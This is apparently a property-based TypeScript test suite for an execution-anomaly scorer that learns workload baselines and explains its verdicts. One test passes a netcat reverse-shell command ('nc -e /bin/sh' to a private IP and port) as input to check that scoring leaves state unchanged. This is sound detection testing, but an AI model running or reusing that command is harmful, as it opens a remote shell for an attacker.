import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import fc from 'fast-check';

import { arbitraryEvent } from '../testing/arbitrary-event.ts';
import { establishedScorer } from '../testing/established-scorer.ts';
import { makeEvent } from '../testing/make-event.ts';
import { ExecutionScorer } from './execution-scorer.ts';
import { WorkloadState } from './workload.ts';

const history = fc.array(arbitraryEvent, { minLength: 1, maxLength: 30 });

describe('a verdict', () => {
  test('has a score and a p-value in their ranges, and reasons that sum to the score', () => {
    fc.assert(
      fc.property(history, arbitraryEvent, (past, event) => {
        const scorer = new ExecutionScorer();
        for (const one of past) scorer.observe(one);
        const { score, p, reasons } = scorer.score(event);
        assert.ok(score >= 0 && score < 1);
        assert.ok(p > 0 && p <= 1);
        const sum = reasons.reduce((total, { contribution }) => total + contribution, 0);
        assert.ok(Math.abs(sum - score) < 1e-9, `${sum} for ${score}`);
      }),
    );
  });

  test('is not changed by asking', () => {
    const scorer = establishedScorer();
    const before = JSON.stringify(scorer.toState());
    scorer.score(makeEvent('nc -e /bin/sh 10.0.0.1 4444'));
    assert.equal(JSON.stringify(scorer.toState()), before);
  });

  test('shows the nearest normal thing', () => {
    const { nearest } = establishedScorer().score(makeEvent('git fetch origin main --prune'));
    assert.deepEqual(nearest?.argv, ['git', 'fetch', 'origin', 'main']);
    assert.ok((nearest?.distance ?? 1) < 0.2);
  });

  test('has no line break and no escape sequence in its texts', () => {
    const { reasons } = establishedScorer().score(makeEvent('x', { argv: ['x', '\u001b[2J\na'] }));
    for (const { text } of reasons) assert.doesNotMatch(text, /[\u0000-\u001f]/);
  });
});

describe('learning', () => {
  test('an event never raises its own score', () => {
    fc.assert(
      fc.property(history, arbitraryEvent, (past, event) => {
        const scorer = new ExecutionScorer();
        for (const one of past) scorer.learn(one);
        const before = scorer.score(event).score;
        scorer.learn(event);
        assert.ok(scorer.score(event).score <= before + 1e-9);
      }),
    );
  });

  test('gives the same scores in whatever order the past came', () => {
    fc.assert(
      fc.property(history, arbitraryEvent, (past, event) => {
        const forwards = new ExecutionScorer();
        for (const one of past) forwards.learn(one);
        const backwards = new ExecutionScorer();
        for (const one of past.toReversed()) backwards.learn(one);
        assert.deepEqual(forwards.score(event).score, backwards.score(event).score);
      }),
    );
  });

  test('gives the same scores after a restart', () => {
    fc.assert(
      fc.property(history, history, (past, later) => {
        const scorer = new ExecutionScorer();
        for (const one of past) scorer.learn(one);
        scorer.endLearning();
        const stored = WorkloadState.array().parse(JSON.parse(JSON.stringify(scorer.toState())));
        const restarted = new ExecutionScorer({}, stored);
        for (const one of later) assert.deepEqual(restarted.observe(one), scorer.observe(one));
        assert.deepEqual(restarted.toState(), scorer.toState());
      }),
    );
  });

  test('of a workload ends by itself after three days and enough events', () => {
    const scorer = new ExecutionScorer();
    for (let at = 0; at <= 500; at += 1)
      scorer.observe(makeEvent('sleep 1', { t: 1e12 + at * 1e6 }));
    assert.equal(scorer.workload('web')?.baseline.state, 'watching');
  });

  test('another workload that does it all day is a witness, never a reason to alert', () => {
    const alone = establishedScorer();
    const event = makeEvent('jq .version /srv/app/package.json');
    const before = alone.score(event).score;
    for (let time = 0; time < 20; time += 1) alone.learn({ ...event, workload: 'api' });
    const after = alone.score(event);
    assert.ok(after.score < before);
    assert.ok(after.reasons.some(({ code }) => code === 'fleet-does'));
  });
});
